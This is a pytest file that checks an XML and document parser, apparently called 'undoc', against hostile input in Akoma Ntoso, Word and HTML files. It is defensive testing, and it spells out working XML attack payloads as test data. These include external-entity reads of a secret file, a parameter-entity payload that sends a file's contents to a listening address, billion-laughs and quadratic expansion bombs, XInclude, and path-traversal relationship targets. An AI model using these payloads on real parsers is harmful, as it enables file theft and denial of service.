"""XML as attackers write it, wherever undoc reads XML: nothing is opened, nothing is fetched, nothing grows."""

from __future__ import annotations

import io
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from forms.docx import R, package, paragraph
from forms.docx import run as words

import undoc
from undoc.check import check_file
from undoc.errors import InputError

SECRET = "机密文件的内容"
AKN = (
    '{}<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0" {}><statement name="x"><meta/><mainBody>'
    "<paragraph><content><p>大会的报告{}</p></content></paragraph></mainBody></statement></akomaNtoso>"
)
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
# Before the root, in the root's tag, in the text. {file} is a file with a secret, {web} an address that is listened at.
ATTACKS = {
    "external entity": ('<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>', "", "&e;"),
    "external entity of the web": ('<!DOCTYPE x [<!ENTITY e SYSTEM "{web}/e">]>', "", "&e;"),
    "external entity in an attribute": ('<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>', 'a="&e;"', ""),
    "external document type": ('<!DOCTYPE x SYSTEM "{web}/x.dtd">', "", ""),
    "public document type": ('<!DOCTYPE x PUBLIC "-//X//X//EN" "{web}/x.dtd">', "", "&e;"),
    "parameter entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "{web}/p"> %p;]>', "", ""),
    "parameter entity that sends a file": (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY &#37; q SYSTEM \'{web}/?%f;\'>"> %p; %q;]>', "", ""
    ),
    "billion laughs": (f'<!DOCTYPE x [<!ENTITY a0 "哈哈">{LAUGHS}]>', "", "&a11;"),
    "billion laughs in an attribute": (f'<!DOCTYPE x [<!ENTITY a0 "哈哈">{LAUGHS}]>', 'a="&a11;"', ""),
    "quadratic blow-up": (f'<!DOCTYPE x [<!ENTITY a "{"哈" * 50_000}">]>', "", "&a;" * 50_000),
    "entity without a document type": ("", "", "&e;"),
    "document type behind a long comment": (f'<!--{"x" * 9000}--><!DOCTYPE x [<!ENTITY e SYSTEM "{{file}}">]>', "", "&e;"),
    "an attribute given by default": ('<!DOCTYPE x [<!ATTLIST p eId CDATA "evil">]>', "", ""),
}  # fmt: skip
# What is no attack on a parser that has no entities, yet leads out of the file for one that obeys it.
POINTERS = {
    "style sheet": ('<?xml-stylesheet type="text/xsl" href="{web}/x.xsl"?>', "", ""),
    "schema": ("", 'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="urn:x {web}/x.xsd"', ""),
    "namespace": ("", 'xmlns:n="{web}/n"', ""),
    "base": ("", 'xml:base="{web}/"', ""),
}
INCLUSION = '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'

Place = Callable[[str], str]


@pytest.fixture
def place(tmp_path: Path, listener) -> Place:
    """Puts the secret file's and the listener's address into an attack."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    return lambda text: text.replace("{file}", secret.as_uri()).replace("{web}", listener.address)


def akn(attack: tuple[str, str, str], place: Place) -> bytes:
    before, attribute, text = map(place, attack)
    return AKN.format(before, attribute, text).encode()


def refused(read: Callable[[], object]) -> str:
    with pytest.raises(InputError) as error:
        read()
    message = str(error.value)
    assert "\n" not in message and SECRET not in message and len(message) < 300
    return message


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_akoma_ntoso(attack, place, tmp_path) -> None:
    data = akn(attack, place)
    (tmp_path / "x.xml").write_bytes(data)
    for read in (lambda: undoc.parse(data), lambda: check_file(tmp_path / "x.xml")):
        assert re.search("document type|entity|PEReference", refused(read), re.IGNORECASE)


@pytest.mark.parametrize("attack", POINTERS.values(), ids=list(POINTERS))
def test_what_points_out_of_akoma_ntoso_is_not_followed(attack, place, tmp_path) -> None:
    data = akn(attack, place)
    assert undoc.parse(data).body[0].text == "大会的报告"
    (tmp_path / "x.xml").write_bytes(data)
    check_file(tmp_path / "x.xml")


def test_inclusions(place, tmp_path) -> None:
    data = akn(("", "", INCLUSION), place)
    assert "XInclude" in refused(lambda: undoc.parse(data))
    (tmp_path / "x.xml").write_bytes(data)
    assert "XInclude" in refused(lambda: check_file(tmp_path / "x.xml"))


def word_file(part: str, attack: tuple[str, str, str], place: Place, encoding: str = "utf-8") -> bytes:
    """A Word file one of whose parts is the attack's."""
    before, attribute, text = map(place, attack)
    text_and_call = paragraph(words("大会的报告") + '<w:r><w:footnoteReference w:id="1"/></w:r>')
    inner = {
        "document": f"<w:body>{text_and_call}"
        '<w:sectPr><w:headerReference w:type="default" r:id="header1"/></w:sectPr></w:body>',
        "styles": '<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/></w:style>',
        "numbering": "",
        "settings": "",
        "header1": paragraph(words("页眉")),
        "footnotes": f'<w:footnote w:id="1">{paragraph(words("脚注"))}</w:footnote>',
    }
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package(inner))) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode()
            if name in (f"word/{part}.xml", f"word/_rels/{part}.rels"):
                declaration, start, rest = re.fullmatch(r"(<\?.*?\?>\n)?(<[\w:]+)(.*)", content, re.DOTALL).groups()
                declaration = (declaration or "").replace("UTF-8", encoding)
                if not declaration and encoding != "utf-8":
                    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
                content = f"{declaration}{before}{start} {attribute}{rest.replace('</w:t>', f'{text}</w:t>', 1)}"
            new.writestr(name, content.encode(encoding))
    return made.getvalue()


PARTS = ("document", "styles", "numbering", "settings", "header1", "footnotes", "document.xml")


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_each_part_of_a_word_file(attack, part, place) -> None:
    if not attack[0]:
        attack = (attack[0], 'x="&e;"', attack[2])  # not every part has a text
    message = refused(lambda: undoc.parse(word_file(part, attack, place)))
    assert re.search(rf"\b{part}\b.* (document type|broken)", message)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_a_document_type_in_another_encoding(encoding, place) -> None:
    attack = ('<!DOCTYPE x [<!ATTLIST p eId CDATA "evil">]>', "", "")
    data = word_file("document", attack, place, encoding)
    assert re.search("document type|broken", refused(lambda: undoc.parse(data)))


@pytest.mark.parametrize("attack", POINTERS.values(), ids=list(POINTERS))
def test_what_points_out_of_a_word_file_is_not_followed(attack, place) -> None:
    assert undoc.parse(word_file("document", attack, place)).source.characters > 5


def test_relationships_of_a_word_file_are_not_followed_out_of_it(place) -> None:
    kinds = ("styles", "numbering", "footnotes", "settings", "header", "image", "attachedTemplate", "oleObject")
    for target in (place("{file}"), place("{web}/x"), "../../../../secret.txt", "/../secret.txt"):
        outside = "".join(
            f'<Relationship Id="{kind}-{number}" Type="{R}/{kind}" Target="{target}"{mode}/>'
            for kind in kinds
            for number, mode in enumerate(("", ' TargetMode="External"'))
        )
        inner = paragraph(words("大会的报告")) + "".join(
            f'<w:sectPr><w:headerReference w:type="default" r:id="header-{number}"/></w:sectPr>' for number in (0, 1)
        )
        document = undoc.parse(package({"document": f"<w:body>{inner}</w:body>"}, outside))
        assert SECRET not in document.to_json()


def test_web_pages(place) -> None:
    """They have no entities of their own, and nothing that they name is loaded."""
    for before, _, text in ATTACKS.values():
        if len(text) > 1000:
            continue
        page = f"<head><link rel=stylesheet href={{web}}/a><base href={{web}}></head><body>{text}<p>大会的报告</p>"
        page += '<script src="{web}/s"></script><img src="{web}/i"><iframe src="{file}"></iframe>' + INCLUSION
        document = undoc.parse(place("<html>" + before + page).encode())
        assert document.source.format == "html" and SECRET not in document.to_json()


MEMORY = 600 * 2**20
LIMITED = f"""
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({MEMORY}, {MEMORY}))
resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
from undoc.cli.app import run
sys.exit(run(["parse", sys.argv[1]]))
"""


@pytest.mark.skipif(resource.getrlimit(resource.RLIMIT_AS)[0] != resource.RLIM_INFINITY, reason="memory is limited")
@pytest.mark.parametrize(
    "xml",
    [
        AKN.format(ATTACKS["billion laughs"][0], "", "&a11;"),
        AKN.format(ATTACKS["quadratic blow-up"][0], "", ATTACKS["quadratic blow-up"][2]),
        AKN.format("", "", "长" * 20_000_000),  # 60 MB in one text
        AKN.format("", f'a="{"x" * 20_000_000}"', ""),
        AKN.format("", "", "<i>" * 100_000 + "</i>" * 100_000),
        AKN.format("", " ".join(f'a{n}=""' for n in range(200_000)), ""),
    ],
    ids=["laughs", "quadratic", "text", "attribute", "nesting", "attributes"],
)
def test_what_is_huge_costs_little(xml, tmp_path) -> None:
    """In 600 MB, and 20 seconds of a processor."""
    path = tmp_path / "x.xml"
    path.write_text(xml, "utf-8")
    done = subprocess.run([sys.executable, "-c", LIMITED, str(path)], capture_output=True, text=True)
    assert done.returncode in (0, 1)
    assert done.stderr.count("\n") == done.returncode and "internal error" not in done.stderr
